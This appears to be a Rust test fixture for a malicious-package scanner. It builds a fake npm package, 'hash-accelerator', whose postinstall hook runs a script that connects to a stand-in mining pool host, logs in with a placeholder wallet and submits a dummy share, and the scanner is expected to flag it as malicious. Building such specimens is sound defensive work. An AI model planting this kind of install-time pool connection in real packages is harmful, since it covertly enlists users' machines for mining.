//! An npm `postinstall` that logs in at a mining pool and hands in a share once it is given a job. It hashes nothing.
//!
//! Must be found: the login at the pool.

use apa_model::Ecosystem;

use crate::{Expect, NpmPackage, Specimen};

const WARM: &str = r#"const net = require('net');
const socket = net.connect(3333, 'pool.coin-mine.example');
socket.setTimeout(15000, () => socket.destroy());
const login = { login: '4AdUndXHHZ6cExampleWallet', pass: 'x', agent: 'warm/1.0', algo: ['rx/0'] };
socket.on('connect', () => socket.write(JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'login', params: login }) + '\n'));
socket.on('data', (data) => {
  for (const line of String(data).split('\n').filter(Boolean)) {
    const { id, result } = JSON.parse(line);
    if (id === 1) {
      const share = { id: result.id, job_id: result.job.job_id, nonce: '00000000', result: '00'.repeat(32) };
      socket.write(JSON.stringify({ id: 2, jsonrpc: '2.0', method: 'submit', params: share }) + '\n');
    } else {
      socket.end();
    }
  }
});
socket.on('error', () => {});
"#;

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("hash-accelerator", "3.1.4")
        .script("postinstall", "node warm.js")
        .file("warm.js", WARM);
    Specimen {
        name: "npm-miner",
        ecosystem: Ecosystem::Npm,
        filename: package.filename(),
        bytes: package.build(),
        served: Vec::new(),
        expect: Expect::malicious(&["mining-pool"]),
    }
}
